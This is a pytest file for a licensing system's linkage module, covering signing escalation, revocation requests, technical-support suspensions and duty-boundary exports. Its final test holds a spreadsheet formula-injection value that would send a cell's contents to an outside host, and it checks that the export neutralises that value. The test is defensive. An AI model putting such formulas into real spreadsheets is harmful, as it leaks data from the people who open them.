"""Signing, escalation, feedback and revocation requests, technical support on the case clock,
and the duty boundary list — through the actions and the pages."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from oneseal.audit.models import AuditEvent
from oneseal.cases import actions as case_actions
from oneseal.cases.models import Licence, RevocationProposal, State
from oneseal.errors import InvalidTransition, NotPermitted, ValidationFailed
from oneseal.linkage import actions, jobs
from oneseal.linkage.models import DutyBoundary, Feedback, Push, SupportRequest
from oneseal.linkage.queries import case_linkage, overdue_support_requests
from oneseal.testing import accepted_case, day, revoke_through_procedure

from .conftest import PDF

# --- signing and escalation ---------------------------------------------------------------


def test_a_signature_after_the_due_date_is_late_and_escalated(decide, supervisor):
    push = decide(on="2025-03-05").pushes.get()  # due 2025-03-10
    actions.sign_push(push, actor=supervisor, on=day("2025-03-11"))
    push.refresh_from_db()
    assert (
        push.signed_late and push.escalated_on == day("2025-03-11") and push.signer_name == "张监管"
    )
    assert AuditEvent.objects.filter(action="linkage.sign_push", data__late=True).exists()
    with pytest.raises(InvalidTransition):
        actions.sign_push(push, actor=supervisor)


def test_the_worker_escalates_an_unsigned_push_once_the_day_after_its_due_date(decide):
    push = decide(on="2025-03-05").pushes.get()
    assert jobs.escalations(day("2025-03-10")) == {"pushes": 0, "support": 0}
    assert jobs.escalations(day("2025-03-11")) == {"pushes": 1, "support": 0}
    assert jobs.escalations(day("2025-03-12")) == {"pushes": 0, "support": 0}
    push.refresh_from_db()
    assert push.escalated_on == day("2025-03-11") and push.signed_on is None


def test_a_denial_and_a_revocation_are_pushed_too(decide, signatory, reviewer, clerk):
    denied = decide(deny=True)
    assert denied.pushes.get().payload["reason"] == "经营场所不符合食品安全要求"
    granted = decide()
    revoke_through_procedure(
        granted,
        proposer=reviewer,
        clerk=clerk,
        signatory=signatory,
        proposed_on="2025-03-10",
        notified_on="2025-03-10",
        decided_on="2025-03-18",
    )
    assert [p.decision for p in granted.pushes.order_by("id")] == ["grant", "revoke_licence"]


def test_another_department_and_the_bureau_cannot_sign(decide, other_supervisor, signatory):
    push = decide().pushes.get()
    for actor in (other_supervisor, signatory):
        with pytest.raises(NotPermitted):
            actions.sign_push(push, actor=actor)


# --- feedback and revocation requests -----------------------------------------------------


def test_a_revocation_request_becomes_the_bureaus_revocation_procedure(
    decide, supervisor, signatory, reviewer, clerk
):
    case = decide(on="2025-03-05")
    push = case.pushes.get()
    feedback = actions.give_feedback(
        push,
        actor=supervisor,
        kind="revocation_request",
        on=day("2025-03-20"),
        summary="经营场所已拆除，不再具备许可条件",
    )
    assert feedback.request_state == Feedback.RequestState.OPEN
    with pytest.raises(InvalidTransition):  # one open request per licence
        actions.give_feedback(
            push, actor=supervisor, kind="revocation_request", on=day("2025-03-20"), summary="再次"
        )
    with pytest.raises(NotPermitted):
        actions.decide_revocation_request(feedback, actor=reviewer, revoke=True, note="同意")
    actions.decide_revocation_request(
        feedback, actor=signatory, revoke=True, note="经核实属实", on=day("2025-03-21")
    )
    # Taking the request up starts the procedure; nothing is revoked before the holder is heard.
    feedback.refresh_from_db()
    assert feedback.request_state == Feedback.RequestState.OPEN and feedback.handled_on == day(
        "2025-03-21"
    )
    assert Licence.objects.get(case=case).state == Licence.LicenceState.VALID
    proposal = RevocationProposal.objects.get(case=case)
    assert (
        proposal.grounds == "department_request"
        and proposal.requesting_department == push.department
    )
    assert "经营场所已拆除" in proposal.facts
    with pytest.raises(InvalidTransition, match="启动撤销程序"):
        actions.decide_revocation_request(feedback, actor=signatory, revoke=False, note="再议")
    revoke_through_procedure(
        case,
        proposer=None,
        clerk=clerk,
        signatory=signatory,
        proposed_on="2025-03-21",
        notified_on="2025-03-24",
        decided_on="2025-04-01",
    )
    feedback.refresh_from_db()
    assert feedback.request_state == Feedback.RequestState.REVOKED
    assert Licence.objects.get(case=case).state == Licence.LicenceState.REVOKED
    event = case.events.order_by("-seq").first()
    assert (
        event.action == "revoke_licence"
        and event.notice_due == "revocation"
        and "经营场所已拆除" in event.reason
    )
    assert case.pushes.filter(decision="revoke_licence").exists()
    assert (
        case_linkage(case).feedback == [feedback]
        and case_linkage(case).open_revocation_requests == []
    )


def test_a_request_whose_procedure_ends_without_revocation_is_declined(
    decide, supervisor, signatory, reviewer, clerk
):
    case = decide(on="2025-03-05")
    feedback = actions.give_feedback(
        case.pushes.get(),
        actor=supervisor,
        kind="revocation_request",
        on=day("2025-03-20"),
        summary="经营场所已拆除",
    )
    actions.decide_revocation_request(
        feedback, actor=signatory, revoke=True, note="启动程序", on=day("2025-03-21")
    )
    case_actions.withdraw_revocation_proposal(
        case, actor=signatory, reason="经营场所已恢复", on=day("2025-03-24")
    )
    feedback.refresh_from_db()
    assert (
        feedback.request_state == Feedback.RequestState.DECLINED
        and feedback.handling_note == "经营场所已恢复"
    )
    assert Licence.objects.get(case=case).state == Licence.LicenceState.VALID


def test_feedback_needs_a_summary_and_a_date_not_before_the_decision(
    decide, supervisor, other_supervisor
):
    push = decide(on="2025-03-05").pushes.get()
    with pytest.raises(ValidationFailed) as error:
        actions.give_feedback(
            push, actor=supervisor, kind="penalty", on=day("2025-03-01"), summary=""
        )
    assert set(error.value.fields) == {"summary", "on"}
    with pytest.raises(NotPermitted):
        actions.give_feedback(push, actor=other_supervisor, kind="penalty", summary="罚款")
    assert not Feedback.objects.exists()


def test_the_same_feedback_sent_twice_is_one_record(decide, supervisor, client):
    push = decide(on="2025-03-05").pushes.get()
    first = actions.give_feedback(
        push,
        actor=supervisor,
        kind="inspection",
        on=day("2025-03-06"),
        summary="现场检查，未见问题",
    )
    again = actions.give_feedback(
        push,
        actor=supervisor,
        kind="inspection",
        on=day("2025-03-06"),
        summary="现场检查，未见问题 ",
    )
    assert again.pk == first.pk and Feedback.objects.count() == 1
    assert AuditEvent.objects.filter(action="linkage.give_feedback").count() == 1
    # The page's form posted twice (a double tap on a phone): still one.
    client.force_login(supervisor)
    form = {"kind": "penalty", "on": "2025-03-07", "summary": "罚款2000元", "document_number": ""}
    url = reverse("linkage:push-feedback", args=[push.pk])
    assert client.post(url, form).status_code == 302
    assert client.post(url, form).status_code == 302
    assert Feedback.objects.filter(kind="penalty").count() == 1
    # Another finding is another record.
    actions.give_feedback(
        push, actor=supervisor, kind="inspection", on=day("2025-03-06"), summary="复查，已整改"
    )
    assert Feedback.objects.count() == 3


# --- technical support --------------------------------------------------------------------


def test_a_support_request_suspends_the_case_and_the_answer_resumes_it_with_the_days_kept(
    item, applicant, clerk, reviewer, supervisor
):
    case = accepted_case(item, applicant, clerk, "2025-03-03")  # promised 5 days: due 2025-03-10
    assert case.promised_due == day("2025-03-10")
    support = actions.request_support(
        case,
        actor=reviewer,
        kind="site_survey",
        details="核查经营场所布局",
        days=3,
        on=day("2025-03-05"),
    )
    case.refresh_from_db()
    assert case.state == State.SUSPENDED and support.suspension.kind == "site_survey"
    assert support.due_on == day("2025-03-10") and support.department.name == "平罗县市场监督管理局"
    actions.answer_support_request(
        support,
        actor=supervisor,
        result="布局符合要求",
        on=day("2025-03-12"),
        attachments=[SimpleUploadedFile("勘验记录.pdf", PDF)],
    )
    case.refresh_from_db()
    support.refresh_from_db()
    assert case.state == State.ACCEPTED and case.promised_due == day(
        "2025-03-17"
    )  # 3 days left after 3/12
    assert support.answered_late and support.attachments.get().original_name == "勘验记录.pdf"
    resume = case.events.order_by("-seq").first()
    assert resume.action == "resume" and resume.on == day("2025-03-12")


def test_support_kinds_map_to_the_special_procedures_and_a_suspended_case_cannot_ask_again(
    item, applicant, clerk, reviewer
):
    case = accepted_case(item, applicant, clerk, "2025-03-03")
    support = actions.request_support(
        case,
        actor=reviewer,
        kind="technical_review",
        details="工艺审查",
        days=5,
        on=day("2025-03-04"),
    )
    assert support.suspension.kind == "expert_review"
    with pytest.raises(InvalidTransition):
        actions.request_support(
            case, actor=reviewer, kind="testing", details="检测", days=5, on=day("2025-03-04")
        )


def test_only_the_asked_department_answers_and_only_reviewers_ask(
    item, applicant, clerk, reviewer, other_supervisor, supervisor
):
    case = accepted_case(item, applicant, clerk, "2025-03-03")
    with pytest.raises(NotPermitted):
        actions.request_support(case, actor=supervisor, kind="testing", details="检测", days=5)
    support = actions.request_support(
        case, actor=reviewer, kind="testing", details="检测", days=5, on=day("2025-03-04")
    )
    with pytest.raises(NotPermitted):
        actions.answer_support_request(support, actor=other_supervisor, result="合格")
    with pytest.raises(ValidationFailed) as error:
        actions.answer_support_request(support, actor=supervisor, result=" ")
    assert "result" in error.value.fields
    assert SupportRequest.objects.get().state == SupportRequest.RequestState.OPEN


def test_an_overdue_support_request_is_escalated_once_and_listed_for_e_supervision(
    item, applicant, clerk, reviewer
):
    case = accepted_case(item, applicant, clerk, "2025-03-03")
    support = actions.request_support(
        case, actor=reviewer, kind="hearing", details="组织听证", days=2, on=day("2025-03-04")
    )  # due 2025-03-06
    assert not overdue_support_requests("640221", today=day("2025-03-06")).exists()
    rows = list(overdue_support_requests("640221", today=day("2025-03-07")))
    assert [(r.pk, r.overdue, r.due_on) for r in rows] == [(support.pk, True, day("2025-03-06"))]
    assert not overdue_support_requests("640202", today=day("2025-03-07")).exists()
    assert jobs.escalations(day("2025-03-07"))["support"] == 1
    assert jobs.escalations(day("2025-03-08"))["support"] == 0


# --- duty boundaries ----------------------------------------------------------------------


@pytest.fixture
def boundary(item, admin_user, other_department):
    return actions.save_duty_boundary(
        item.item_version.item,
        actor=admin_user,
        supervising_department=other_department,
        bureau_duties="受理、审查、决定、发证",
        department_duties="日常监督检查",
        support_duties=[
            {"kind": "site_survey", "description": "食品经营场所现场勘验", "limit_days": 4}
        ],
    )


def test_the_duty_boundary_names_the_department_that_gets_the_push_and_the_support_days(
    boundary, decide, item, applicant, clerk, reviewer, other_department
):
    assert decide().pushes.get().department == other_department
    case = accepted_case(item, applicant, clerk, "2025-03-03")
    support = actions.request_support(
        case, actor=reviewer, kind="site_survey", details="勘验", on=day("2025-03-04")
    )
    assert support.department == other_department and support.days == 4


def test_only_a_catalogue_admin_of_the_region_maintains_the_list(
    item, reviewer, department, admin_user
):
    with pytest.raises(NotPermitted):
        actions.save_duty_boundary(
            item.item_version.item,
            actor=reviewer,
            supervising_department=department,
            bureau_duties="a",
            department_duties="b",
        )
    with pytest.raises(ValidationFailed) as error:
        actions.save_duty_boundary(
            item.item_version.item,
            actor=admin_user,
            supervising_department=department,
            bureau_duties="",
            department_duties="b",
            support_duties=[{"kind": "testing", "description": "", "limit_days": 0}],
        )
    assert {
        "bureau_duties",
        "support_duties[0].description",
        "support_duties[0].limit_days",
    } <= set(error.value.fields)
    assert not DutyBoundary.objects.exists()


def test_the_list_is_public_as_a_page_and_xlsx(boundary, client):
    page = client.get(reverse("linkage:boundaries", args=["640221"]))
    assert page.status_code == 200 and "食品经营场所现场勘验" in page.content.decode()
    sheet = client.get(reverse("linkage:boundaries", args=["640221"]), {"format": "xlsx"})
    rows = list(load_workbook(io.BytesIO(sheet.getvalue())).active.values)
    assert rows[2][1] == "640221-XK-001" and rows[2][3] == "卫健局" and "4个工作日" in rows[2][7]


def test_the_catalogue_admin_edits_the_list_on_a_page(
    item, admin_user, department, client, reviewer
):
    client.force_login(admin_user)
    edit = reverse("linkage:boundary-edit", args=[item.item_version.item_id])
    assert client.get(reverse("linkage:boundaries-manage")).status_code == 200
    bad = client.post(
        edit,
        {"supervising_department": department.pk, "bureau_duties": "", "department_duties": "x"},
    )
    assert bad.status_code == 400 and "请填写审批局职责" in bad.content.decode()
    ok = client.post(
        edit,
        {
            "supervising_department": department.pk,
            "bureau_duties": "审批",
            "department_duties": "监管",
            "testing_description": "抽样检测",
            "testing_days": "10",
        },
    )
    assert (
        ok.status_code == 302 and DutyBoundary.objects.get().support_duties.get().limit_days == 10
    )
    client.force_login(reviewer)
    assert client.get(edit).status_code == 403


# --- pages: each refusal ------------------------------------------------------------------


def test_the_supervisor_signs_and_feeds_back_in_the_inbox(decide, supervisor, client):
    push = decide().pushes.get()
    client.force_login(supervisor)
    assert push.case.number in client.get(reverse("linkage:inbox")).content.decode()
    assert client.post(reverse("linkage:push-sign", args=[push.pk])).status_code == 302
    response = client.post(
        reverse("linkage:push-feedback", args=[push.pk]),
        {"kind": "rectification", "on": "2025-03-20", "summary": "责令整改冷库温控"},
    )
    assert response.status_code == 302
    assert (
        Push.objects.get().signed_on is not None and Feedback.objects.get().kind == "rectification"
    )


def test_another_departments_supervisor_gets_404_on_every_page_of_the_push(
    decide, item, applicant, clerk, reviewer, other_supervisor, client
):
    push = decide().pushes.get()
    case = accepted_case(item, applicant, clerk, "2025-03-03")
    support = actions.request_support(
        case, actor=reviewer, kind="testing", details="检测", days=5, on=day("2025-03-04")
    )
    client.force_login(other_supervisor)
    assert push.case.number not in client.get(reverse("linkage:inbox")).content.decode()
    assert client.get(reverse("linkage:push", args=[push.pk])).status_code == 404
    assert client.post(reverse("linkage:push-sign", args=[push.pk])).status_code == 404
    assert (
        client.post(
            reverse("linkage:push-feedback", args=[push.pk]),
            {"kind": "penalty", "on": "2025-03-20", "summary": "罚款"},
        ).status_code
        == 404
    )
    assert client.get(reverse("linkage:support", args=[support.pk])).status_code == 404
    assert (
        client.post(reverse("linkage:support", args=[support.pk]), {"result": "合格"}).status_code
        == 404
    )
    assert Push.objects.get().signed_on is None and not Feedback.objects.exists()
    assert SupportRequest.objects.get().state == "open"


def test_bureau_staff_have_no_inbox_and_other_counties_and_anonymous_see_nothing(
    decide, reviewer, far_staff, client
):
    push = decide().pushes.get()
    assert client.get(reverse("linkage:inbox")).status_code == 302  # to the login page
    client.force_login(reviewer)
    assert client.get(reverse("linkage:inbox")).status_code == 403
    assert (
        client.get(reverse("linkage:push", args=[push.pk])).status_code == 200
    )  # read-only for the bureau
    assert client.post(reverse("linkage:push-sign", args=[push.pk])).status_code == 404
    client.force_login(far_staff)
    assert client.get(reverse("linkage:push", args=[push.pk])).status_code == 404
    assert client.get(reverse("linkage:case", args=[push.case_id])).status_code == 404


def test_a_reviewer_asks_for_support_on_the_case_page(item, applicant, clerk, reviewer, client):
    case = accepted_case(item, applicant, clerk, "2025-03-03")
    client.force_login(reviewer)
    page = reverse("linkage:case", args=[case.pk])
    bad = client.post(page, {"kind": "testing", "details": ""})
    assert bad.status_code == 400 and "请填写需要支撑的事项" in bad.content.decode()
    assert (
        client.post(page, {"kind": "testing", "details": "冷藏设备检测", "days": "5"}).status_code
        == 302
    )
    case.refresh_from_db()
    assert case.state == State.SUSPENDED


def test_the_boundary_download_keeps_formula_like_duties_as_text(
    item, admin_user, other_department, client
):
    hostile = '=HYPERLINK("http://x"&B3,"查看")'
    actions.save_duty_boundary(
        item.item_version.item,
        actor=admin_user,
        supervising_department=other_department,
        bureau_duties=hostile,
        department_duties="+日常监督检查",
    )
    sheet = load_workbook(
        io.BytesIO(
            client.get(
                reverse("linkage:boundaries", args=["640221"]), {"format": "xlsx"}
            ).getvalue()
        )
    ).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert {c.value for c in cells if c.quotePrefix} == {hostile, "+日常监督检查"}
